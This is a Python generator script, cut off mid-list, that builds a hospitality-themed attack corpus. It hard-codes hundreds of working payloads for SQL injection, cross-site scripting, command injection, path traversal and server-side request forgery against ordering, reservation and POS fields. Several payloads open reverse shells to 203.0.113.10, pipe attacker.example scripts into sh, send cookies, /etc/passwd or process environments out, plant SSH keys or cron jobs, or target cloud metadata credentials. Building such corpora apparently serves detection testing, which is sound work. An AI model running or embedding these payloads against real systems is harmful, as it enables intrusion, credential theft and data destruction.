"""Attack corpus for the hospitality theme (ha36).

Payloads hidden in the notations of an online-ordering app, a reservation system, a
kitchen display / POS back office and a hotel guest-request tool: menu searches, promo
codes, table and room numbers, order notes, kitchen tickets, receipt templates, supplier
feed URLs, invoice downloads, staff directory lookups...

Each class is "<context>-<technique>[+<encoding>]"; the context names the field and the
sink the vulnerable app puts the value into (SQL string/number, shell line, file path,
fetched URL, server-side template, HTML, header/log line, LDAP filter, XPath...).
"plain-" classes carry no domain text.

Every payload was written by hand for this corpus from an understanding of the
technique (no public payload list, no dataset, no WAF rule was consulted). A small
number are computed: encodings of hand-written payloads and small templates over
hand-written pools. Standard library only; deterministic output.
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 3602
MAX_LEN = 1800

# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------
SQLI = [
    ("menu-search-union", "pad thai%' UNION SELECT username, password_hash, NULL FROM staff_users-- -"),
    ("menu-search-union-schema", "curry' UNION ALL SELECT table_name, column_name, 3 FROM information_schema.columns WHERE table_schema=database()#"),
    ("promo-code-tautology", "SUMMER10' OR '1'='1"),
    ("promo-code-tautology-limit", "FREEDESSERT' OR 1=1 LIMIT 1-- "),
    ("table-number-boolean-blind", "12 AND (SELECT SUBSTRING(password_hash,1,1) FROM staff_users WHERE role='manager' LIMIT 1)='a'"),
    ("table-number-time-sleep", "7 AND SLEEP(5)"),
    ("table-number-stacked-pgsleep", "7; SELECT pg_sleep(6)--"),
    ("reservation-lookup-waitfor", "R-55821'; WAITFOR DELAY '0:0:7';--"),
    ("order-note-insert-subquery", "no onions', (SELECT GROUP_CONCAT(email,':',password_hash) FROM customers))-- -"),
    ("order-note-stacked-drop", "sauce on the side'); DROP TABLE kitchen_tickets;--"),
    ("room-number-error-extractvalue", "1412 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e))"),
    ("room-number-error-updatexml", "1412' AND UPDATEXML(1,CONCAT(0x5c,(SELECT user())),1)-- -"),
    ("review-search-error-cast", "great' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("sort-param-orderby-case", "price,(CASE WHEN (SELECT COUNT(*) FROM staff_users WHERE role='admin')>0 THEN name ELSE price END)"),
    ("sort-param-orderby-time", "name ASC, IF(ASCII(SUBSTRING((SELECT password_hash FROM staff_users LIMIT 1),1,1))>77,SLEEP(4),0)"),
    ("allergen-filter-in-tautology", "peanut') OR ('x'='x"),
    ("allergen-filter-in-union", "sesame') UNION SELECT id, card_number, exp_date FROM payments-- -"),
    ("report-date-oracle-dns-oob", "2024-05-01' AND UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.oob.attacker.example') IS NOT NULL--"),
    ("guest-name-oracle-pipe-delay", "Chen' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--"),
    ("guest-name-mssql-dirtree-oob", r"Chen'; EXEC master..xp_dirtree '\\203.0.113.45\menu';--"),
    ("room-number-mssql-xpcmdshell", "1408; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami'--"),
    ("menu-search-into-outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/menu/img/x.php'-- -"),
    ("menu-search-load-file", "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL,NULL-- -"),
    ("menu-search-sqlite-master", "tacos' UNION SELECT name, sql, 1 FROM sqlite_master--"),
    ("table-number-sqlite-heavy-query", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("guest-name-boolean-substr", "Nguyen' AND ASCII(SUBSTR((SELECT api_key FROM integrations WHERE name='stripe'),1,1))>80-- "),
    ("staff-login-comment-bypass", "manager'-- "),
    ("staff-login-hash-comment", "gm@olive.example' #"),
    ("plain-empty-string-tautology", "' OR ''='"),
    ("guest-name-second-order-concat", "O'Brien' || (SELECT password_hash FROM staff_users WHERE id=1) || '"),
    ("quantity-pg-copy-program", "1; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p.sh | sh';--"),
    ("review-search-pg-setting", "x' OR (SELECT current_setting('is_superuser'))='on'--"),
    ("table-name-mssql-convert-error", "T14' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("plain-having-error", "' HAVING 1=1--"),
    ("menu-search-union+comment-space", "pho'/**/UNION/**/SELECT/**/email,password_hash,3/**/FROM/**/customers#"),
    ("menu-search-versioned-comment", "ramen' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(card_last4),3 FROM payments-- -"),
    ("menu-search-hex-literal", "' UNION SELECT id,username,password_hash FROM staff_users WHERE role=0x6d616e61676572-- -"),
    ("staff-login-char-func", "' OR username=CHAR(97,100,109,105,110)-- "),
    ("quantity-subquery-sleep", "2-(SELECT 1 FROM (SELECT SLEEP(5))a)"),
    ("review-rating-insert-subquery", "5, (SELECT password_hash FROM staff_users LIMIT 1))-- "),
    ("guest-profile-update-set", "555-0100', is_vip=1, credit_balance=9999 WHERE email='me@guest.example'-- "),
    ("table-number-conditional-error", "1 AND (SELECT CASE WHEN (SELECT COUNT(*) FROM staff_users)>5 THEN 1/0 ELSE 1 END)=1"),
    ("menu-search-double-query-error", "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
    ("menu-item-name-union", "Margherita Pizza — $16' UNION SELECT username, password_hash, 1 FROM staff_users-- -"),
    ("recipe-search-tautology", "1/2 cup' OR 1=1 -- "),
    ("reservation-date-sleep", "2024-06-14' AND SLEEP(5) AND '1'='1"),
    ("po-number-tautology", "PO-7781' OR 'a'='a"),
    ("supplier-sku-union-numeric", "10442 UNION SELECT vendor_name, bank_account, routing_number FROM vendors"),
    ("guest-name-pg-dblink-oob", "x' || (SELECT dblink_connect('host=203.0.113.7 user='||current_user||' dbname=x')) || '"),
    ("plain-null-column-probe", "' UNION SELECT NULL,NULL,NULL,NULL-- -"),
    ("room-number-orderby-probe", "1 ORDER BY 7-- "),
    ("reservation-lookup-mssql-conditional-wait", "'; IF (SELECT COUNT(*) FROM staff WHERE username='gm' AND SUBSTRING(pin,1,1)='4')=1 WAITFOR DELAY '0:0:5'--"),
    ("guest-name-oracle-ctxsys-error", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("staff-login-exists-like", "' OR EXISTS(SELECT 1 FROM staff_users WHERE username='admin' AND password_hash LIKE 'a%')-- "),
    ("table-number-parenthesized-nospace", "(12)OR(1)=(1)"),
    ("menu-search-japanese-union", "ラーメン' UNION SELECT login, pass, 3 FROM admins-- -"),
    ("review-body-multiline-delete", "Great food!\n'); DELETE FROM reviews WHERE rating < 5;--"),
    ("quantity-stacked-update-price", "1; UPDATE menu_items SET price=0.01 WHERE name LIKE '%Lobster%';--"),
    ("promo-code-mssql-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("guest-name-backslash-quote-escape", "\\' OR 1=1-- -"),
    ("staff-login-gbk-wide-byte+urlenc", "%bf%27 OR 1=1-- -"),
    ("kitchen-ticket-note-stacked-update", "#4471 T7 — 2 Margherita'; UPDATE orders SET status='paid' WHERE table_no=7;-- "),
    ("room-charge-folio-union", "1408 UNION SELECT guest_name, card_token, folio_total FROM folios-- "),
    ("plain-union-select", "' UNION SELECT username, password FROM users--"),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-stacked-drop", "'; DROP TABLE users;--"),
    ("plain-time-sleep", "' AND SLEEP(5)-- -"),
    ("plain-error-extractvalue", "' AND EXTRACTVALUE(1,CONCAT(0x7e,user()))-- -"),
    ("plain-union-false-prefix", "1 AND 1=2 UNION SELECT 1,@@version,3-- -"),
]

# bases re-used by the encoders below (hand-written)
SQLI_ENCODE = [
    ("menu-search-union+urlenc", "pad thai' UNION SELECT email,password_hash,3 FROM customers-- -", "url"),
    ("promo-code-tautology+urlenc", "BRUNCH15' OR 'a'='a'-- ", "url"),
    ("reservation-lookup-sleep+double-urlenc", "R-60012' AND SLEEP(6)-- -", "url2"),
    ("menu-search-union+case-mix", "sushi' union all select login,passwd,3 from admins-- -", "case"),
    ("table-number-union+comment-space", "3 UNION SELECT pin, username, role FROM staff_users", "comment"),
]
SQLI_T_DISHES = ["tom yum", "bánh mì", "carbonara", "paella", "khao soi", "pierogi", "moussaka", "jollof rice"]
SQLI_T_TAILS = [
    "' UNION SELECT username, password_hash, role FROM staff_users-- -",
    "%' AND 1=(SELECT COUNT(*) FROM staff_users WHERE SLEEP(3))-- -",
    "' UNION SELECT card_last4, card_token, exp FROM saved_cards#",
    "' OR (SELECT 1 FROM pg_sleep(4)) IS NOT NULL--",
]


def gen_sqli_template(rng):
    i = rng.randrange(len(SQLI_T_TAILS))
    cls = ["menu-search-union", "menu-search-time", "menu-search-union", "menu-search-pg-sleep"][i]
    return cls, rng.choice(SQLI_T_DISHES) + SQLI_T_TAILS[i]


# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------
XSS = [
    ("review-body-img-onerror-exfil", "Loved the tacos! <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
    ("guest-name-script-exfil", "Maria <script>new Image().src='//attacker.example/s?c='+encodeURIComponent(document.cookie)</script>"),
    ("menu-desc-svg-onload", "Pad Thai — $14.50 <svg onload=alert(document.domain)>"),
    ("photo-alt-attr-breakout", "Crème brûlée\" onmouseover=\"alert(1)\" x=\""),
    ("instructions-value-attr-breakout", "no onions\"><script>alert(document.cookie)</script>"),
    ("instructions-single-quote-attr-autofocus", "sauce on the side' autofocus onfocus='alert(1)"),
    ("kds-js-string-breakout", "';alert(document.cookie);//"),
    ("kds-js-string-backslash", "\\\";alert(1);//"),
    ("kds-inline-script-breakout", "</script><script>alert(origin)</script>"),
    ("notes-textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("receipt-title-breakout", "</title><svg/onload=alert(1)>"),
    ("supplier-website-href-javascript", "javascript:alert(document.cookie)"),
    ("supplier-website-href-tab+html-entities", "jav&#x09;ascript:alert(1)"),
    ("supplier-website-href-data+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("review-body-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("menu-desc-details-ontoggle", "<details open ontoggle=alert(1)><summary>Allergens</summary>nuts, dairy</details>"),
    ("review-body-body-onload", "<body onload=alert(document.domain)>"),
    ("guest-request-input-autofocus", "Room 1412: extra towels <input autofocus onfocus=alert(1)>"),
    ("review-body-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("menu-desc-marquee-onstart", "<marquee onstart=alert(1)>Today's special: oysters $1</marquee>"),
    ("review-markdown-javascript-link", "[Menu PDF](javascript:alert(document.cookie))"),
    ("review-markdown-image-attr-breakout", "![pho](x\" onerror=\"alert(1))"),
    ("menu-desc-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("menu-desc-svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">Order now</text></a></svg>"),
    ("review-body-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("menu-style-breakout", "</style><script>alert(1)</script>"),
    ("review-body-form-phishing", "<form action=\"https://attacker.example/login\" method=\"post\"><input name=\"pin\" placeholder=\"Manager PIN\"><button>Unlock KDS</button></form>"),
    ("review-body-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/menu\">"),
    ("menu-desc-base-href", "<base href=\"https://attacker.example/\">"),
    ("kds-js-template-literal", "${alert(document.domain)}"),
    ("review-body-identifier+unicode-escape", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("review-body-handler+html-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;1&#41;\">"),
    ("supplier-link-javascript+html-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Reserve</a>"),
    ("plain-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("plain-svg-slash-onload", "<svg/onload=alert(1)>"),
    ("plain-svg-backtick-call", "<svg onload=alert`1`>"),
    ("review-body-onerror-throw", "<img src=x onerror=window.onerror=alert;throw 1>"),
    ("review-body-constructor-chain", "<img src=x onerror=\"[].constructor.constructor('alert(1)')()\">"),
    ("menu-desc-bracket-concat", "<svg onload=top['al'+'ert'](1)>"),
    ("review-body-atob-eval", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("review-body-location-hash-eval", "<svg onload=eval(location.hash.slice(1))>"),
    ("menu-desc-script-src", "<script src=//attacker.example/kds.js></script>"),
    ("menu-desc-module-import", "<script type=module>import('https://attacker.example/k.js')</script>"),
    ("kds-json-script-breakout", "\"}</script><script>alert(1)</script>"),
    ("menu-desc-angularjs-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("review-body-vue2-csti", "{{_c.constructor('alert(1)')()}}"),
    ("review-body-pointerenter-overlay", "<div onpointerenter=alert(1) style=\"position:fixed;inset:0\">"),
    ("review-body-contenteditable-autofocus", "<p contenteditable autofocus onfocus=alert(1)>Great service!</p>"),
    ("menu-desc-select-autofocus", "<select autofocus onfocus=alert(1)><option>Small</option><option>Large</option></select>"),
    ("review-body-iframe-javascript", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("receipt-link-onclick-exfil", "<a href=\"#\" onclick=\"fetch('//attacker.example/?'+localStorage.getItem('pos_token'))\">View receipt</a>"),
    ("menu-color-style-breakout", "red}</style><script>alert(1)</script>"),
    ("review-body-multiline-img", "Best ramen in town!\n\n<img src=1 onerror=alert(document.domain)>\n\n5/5"),
    ("review-body-japanese-svg", "美味しかった！<svg onload=alert(1)>"),
    ("review-body-onerror-src-exfil", "<img src=\"x\" onerror=\"this.src='https://attacker.example/?c='+document.cookie\">"),
    ("menu-desc-object-data-html", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("menu-desc-svg-script+html-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("review-body-onerror+case-mix", "<img src=x oNeRrOr=alert(1)>"),
    ("supplier-website-href-newline", "java\nscript:alert(document.domain)"),
    ("review-body-svg-style-mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("review-body-mathml-mglyph-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("reservation-name-attr-tag-breakout", "O'Brien\"><img src=x onerror=alert(1)>"),
    ("review-body-custom-tag-onclick", "<x onclick=alert(1)>click for today's specials</x>"),
    ("guest-request-svg-use-data", "Rm 508 wifi broken <svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)'/&gt;&lt;/svg&gt;#x\"/></svg>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr-breakout-svg", "\"><svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-body-onload", "<body onload=alert(1)>"),
]

XSS_ENCODE = [
    ("review-body-script+urlenc", "<script>alert(document.cookie)</script>", "url"),
    ("guest-name-img-onerror+urlenc", "Ana <img src=x onerror=alert(1)>", "url"),
    ("menu-desc-svg-onload+double-urlenc", "<svg onload=alert(origin)>", "url2"),
]
XSS_T_OPENERS = ["Amazing brunch!! ", "3/5 — slow service. ", "Room 1208 was spotless ", "Best pho ever 😍 ",
                 "Reply from the owner: thanks Jo! ", "Cold fries again... "]
XSS_T_PAYLOADS = [
    ("review-body-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("review-body-svg-onload", "<svg onload=fetch('//attacker.example/r?'+document.cookie)>"),
    ("review-body-script-src", "<script src=https://attacker.example/r.js></script>"),
]


def gen_xss_template(rng):
    cls, payload = rng.choice(XSS_T_PAYLOADS)
    return cls, rng.choice(XSS_T_OPENERS) + payload


# ---------------------------------------------------------------------------
# cmdi
# ---------------------------------------------------------------------------
CMDI = [
    ("ticket-print-semicolon-curl-sh", "T12; curl -s http://attacker.example/k.sh | sh"),
    ("ticket-print-and-id", "no onions && id"),
    ("guest-request-subshell-exfil", "Room 1412 $(curl -d @/etc/passwd http://attacker.example/r)"),
    ("dessert-message-backticks", "Happy 30th Maria! `wget -q -O- http://attacker.example/a|sh`"),
    ("label-printer-double-quote-breakout", "Happy Bday\"; nc 203.0.113.10 4444 -e /bin/sh; echo \""),
    ("ticket-print-single-quote-breakout", "O'Brien'; rm -rf /var/spool/kds/*; echo '"),
    ("ticket-print-newline", "table 7\ncat /etc/shadow"),
    ("printer-ip-pipe-nc", "192.0.2.50 | nc 203.0.113.10 9001 < /etc/passwd"),
    ("printer-ip-or-curl", "10.0.0.50 || curl http://attacker.example/$(hostname)"),
    ("pos-windows-print-ampersand", "POS01 & type C:\\Windows\\win.ini"),
    ("pos-windows-print-powershell-iex", "KITCHEN | powershell -nop -c \"iwr http://attacker.example/p.ps1 | iex\""),
    ("pos-windows-print-powershell-encodedcommand", "KITCHEN & powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAA=="),
    ("photo-convert-ifs", "menu.jpg;cat${IFS}/etc/passwd"),
    ("receipt-file-brace-expansion", "receipt.pdf;{cat,/etc/passwd}"),
    ("photo-convert-glob-paths", "photo.png;/???/c?t /???/p??s??"),
    ("ticket-print-quote-split", "12;c'a't /e't'c/pa''sswd"),
    ("ticket-print-backslash-split", "12;c\\at /et\\c/pas\\swd"),
    ("ticket-print-dollar-at-split", "12;ca$@t /etc/pass$@wd"),
    ("ticket-print-printf-hex", "x;$(printf '\\x69\\x64')"),
    ("recipe-export-base64-decode-pipe", "x; echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("ticket-print-bash-revshell", "x; bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'"),
    ("ticket-print-python-revshell", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("printer-ip-nslookup-exfil", "10.0.0.50; nslookup $(whoami).oob.attacker.example"),
    ("printer-ip-dig-backtick-exfil", "10.0.0.51`dig +short $(hostname).attacker.example`"),
    ("table-number-sleep", "table 4; sleep 10"),
    ("printer-ip-ping-delay", "10.0.0.50 | ping -c 11 127.0.0.1"),
    ("pos-windows-ping-delay", "POS02 & ping -n 11 127.0.0.1 &"),
    ("menu-pdf-url-curl-output-arg", "--output /var/www/html/x.php http://attacker.example/shell.txt"),
    ("backup-name-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/menu.sh"),
    ("supplier-sftp-host-proxycommand", "-oProxyCommand=curl attacker.example/s|sh"),
    ("menu-export-find-exec", "*.pdf -exec curl -F f=@{} http://attacker.example/up ;"),
    ("receipt-email-sendmail-args", "guest@mail.example -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("photo-convert-imagemagick-pipe", "|curl -s http://attacker.example/im.sh|sh"),
    ("ticket-print-redirect-read", "x;echo $(</etc/passwd)"),
    ("room-service-ticket-wget-chmod", "Rm 716 | 2x Continental; wget http://203.0.113.10/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot"),
    ("ticket-print-perl-revshell", "x; perl -e 'use Socket;$i=\"203.0.113.10\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'"),
    ("ticket-print-mkfifo-nc", "x; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.10 4444 > /tmp/f"),
    ("ticket-print-crontab-persist", "x; (crontab -l; echo \"* * * * * curl -s http://attacker.example/b|sh\") | crontab -"),
    ("ticket-print-ssh-key-append", "x; echo 'ssh-ed25519 AAAAFAKEPLACEHOLDERKEY0000 attacker@attacker.example' >> ~/.ssh/authorized_keys"),
    ("ticket-print-environ-exfil", "x; curl -X POST --data-binary @/proc/self/environ http://attacker.example/e"),
    ("pos-windows-certutil-download", "& certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("pos-windows-comspec", "| %COMSPEC% /c whoami"),
    ("pos-windows-delayed-expansion", "& cmd /v:on /c \"set a=who&& set b=ami&& call !a!!b!\""),
    ("pos-windows-caret-split", "& w^h^o^a^m^i"),
    ("ticket-print-ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("ticket-print-variable-concat", "x;a=/etc/pas;b=swd;cat $a$b"),
    ("ticket-print-tab-separator", "x;cat\t/etc/passwd"),
    ("ticket-print-redirect-nospace", "x;cat</etc/passwd"),
    ("ticket-print-and-webroot-write", "x&&id>/var/www/html/m.txt"),
    ("ticket-print-busybox-wget", "x; busybox wget http://203.0.113.10/x -O- | sh"),
    ("ticket-print-node-exec", "x; node -e \"require('child_process').exec('curl attacker.example/n|sh')\""),
    ("recipe-step-multiline-subshell", "Step 1: preheat to 350°F\n$(curl -s http://attacker.example/r|sh)\nStep 2: cream butter & sugar"),
    ("ticket-print-japanese-semicolon", "3番テーブル; cat /etc/passwd"),
    ("ticket-print-and-curl-upload", "1x Ribeye && curl -F 'f=@/var/lib/pos/config.ini' http://attacker.example/up"),
    ("menu-pdf-url-wget-output-arg", "-O /var/www/html/menu/s.php http://attacker.example/s.txt"),
    ("report-date-quote-breakout", "2024-05-01\"; id; \""),
    ("ticket-print-subshell-sleep", "T9 $(sleep 7)"),
    ("ticket-print-devtcp-fetch", "a;exec 3<>/dev/tcp/203.0.113.10/80;echo -e \"GET /x HTTP/1.0\\r\\n\\r\\n\">&3;cat<&3|sh"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell-whoami", "$(whoami)"),
    ("plain-backtick-uname", "`uname -a`"),
    ("plain-or-whoami", "x || whoami"),
    ("plain-and-sleep", "&& sleep 5"),
]

CMDI_ENCODE = [
    ("ticket-print-newline-id+urlenc", "T12\nid", "url"),
    ("printer-ip-semicolon-curl+urlenc", "10.0.0.50; curl http://attacker.example/p|sh", "url"),
]
CMDI_T_PREFIX = ["T14 | 2x Burger MW", "Rm 1208 late checkout", "Happy Anniversary!", "1x Pad Thai GF",
                 "Order #5502", "TO-GO #A-119"]
CMDI_T_SEP = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("subshell", " $(", ")"),
              ("backtick", " `", "`")]
CMDI_T_CMD = ["id", "cat /etc/passwd", "curl -s http://attacker.example/t|sh", "sleep 8",
              "wget -qO- 203.0.113.10/k|sh"]


def gen_cmdi_template(rng):
    sep = rng.choice(CMDI_T_SEP)
    cmd = rng.choice(CMDI_T_CMD)
    close = sep[2] if len(sep) > 2 else ""
    return f"ticket-print-{sep[0]}", rng.choice(CMDI_T_PREFIX) + sep[1] + cmd + close


# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-dotdot-passwd-4", "../../../../etc/passwd"),
    ("invoice-download-dotdot-shadow", "../../../../../../etc/shadow"),
    ("menu-photo-subdir-dotdot", "menu/2024/../../../../../etc/passwd"),
    ("receipt-template-windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("invoice-download-windows-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("plain-proc-environ", "/proc/self/environ"),
    ("menu-photo-proc-cmdline", "../../../../proc/self/cmdline"),
    ("menu-photo-nonrecursive-strip", "....//....//....//etc/passwd"),
    ("menu-photo-nested-dotslash-strip", "..././..././..././etc/passwd"),
    ("invoice-download-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("invoice-download-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("menu-photo-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("lang-pack-fullwidth-solidus+urlenc", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("invoice-download-null-byte-ext+urlenc", "../../../../etc/passwd%00.pdf"),
    ("receipt-template-tomcat-path-param", "..;/..;/WEB-INF/web.xml"),
    ("receipt-template-webinf", "../WEB-INF/web.xml"),
    ("report-export-rails-db-config", "../../config/database.yml"),
    ("menu-photo-dotenv", "../../../../var/www/html/.env"),
    ("kds-theme-git-config", "../.git/config"),
    ("invoice-download-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("invoice-download-bash-history", "../../../../home/pos/.bash_history"),
    ("lang-pack-nginx-log", "../../../../var/log/nginx/access.log"),
    ("receipt-template-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("menu-zip-entry-zipslip", "../../../../var/www/html/menu/shell.php"),
    ("menu-zip-entry-zipslip-windows", "..\\..\\..\\..\\ProgramData\\POS\\config\\settings.xml"),
    ("invoice-download-windows-absolute-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("report-export-windows-pos-db", "C:\\ProgramData\\POS\\db\\pos.sqlite"),
    ("receipt-archive-prefixed-dotdot", "/var/lib/pos/receipts/../../../../etc/passwd"),
    ("menu-photo-dots+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("menu-photo-slash+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("receipt-template-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("menu-photo-half-dot+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("menu-photo-dot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("report-export-iis+percent-u", "..%u2215..%u2215..%u2215windows%u2215win.ini"),
    ("menu-pdf-dot-segments", "/var/www/menus/./../../../etc/passwd"),
    ("lang-pack-locale-dotdot", "en/../../../../../etc/passwd"),
    ("lang-pack-locale-environ", "fr_FR/../../../../../../proc/self/environ"),
    ("menu-photo-double-slash", "..//..//..//..//etc//passwd"),
    ("receipt-template-windows-nonrecursive", "....\\\\....\\\\....\\\\windows\\win.ini"),
    ("invoice-download-leading-slash-dotdot", "/../../../../../../etc/passwd"),
    ("report-export-aws-credentials", "../../../../home/app/.aws/credentials"),
    ("kds-theme-absolute-nginx-conf", "/etc/nginx/nginx.conf"),
    ("invoice-download-windows-sam", "..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("lang-pack-php-ini", "../../../../../../usr/local/etc/php/php.ini"),
    ("menu-photo-folder-dotdot", "menu_photos/../../../../../../etc/passwd"),
    ("kds-theme-secrets", "dark/../../../../../app/config/secrets.json"),
    ("receipt-archive-group", "receipts/2024/05/../../../../../etc/group"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-windows-dotdot", "..\\..\\..\\boot.ini"),
]

TRAV_T_PREFIX = ["invoices/2024/", "menu_photos/", "receipts/", "templates/receipt/", "exports/z-reports/"]
TRAV_T_TARGET = ["etc/passwd", "etc/hosts", "proc/self/status", "var/lib/pos/config.ini", "root/.bash_history"]
TRAV_T_ENC = [("", ""), ("+urlenc", "url")]


def gen_traversal_template(rng):
    depth = rng.randrange(5, 9)
    prefix = rng.choice(TRAV_T_PREFIX)
    value = prefix + "../" * depth + rng.choice(TRAV_T_TARGET)
    suffix, enc = rng.choice(TRAV_T_ENC)
    if enc == "url":
        value = value.replace("../", "%2e%2e%2f")
    return "file-download-prefixed-dotdot" + suffix, value


# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------
SSRF = [
    ("supplier-feed-url-aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("menu-image-url-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("order-webhook-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ical-feed-url-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("logo-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("menu-image-url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("order-webhook-url-local-redis", "http://127.0.0.1:6379/"),
    ("supplier-feed-url-gopher-redis-cron", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2Fcrontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20attacker.example%2Fc%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("supplier-feed-url-local-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("order-webhook-url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("ical-feed-url-kubelet", "https://10.0.0.1:10250/pods"),
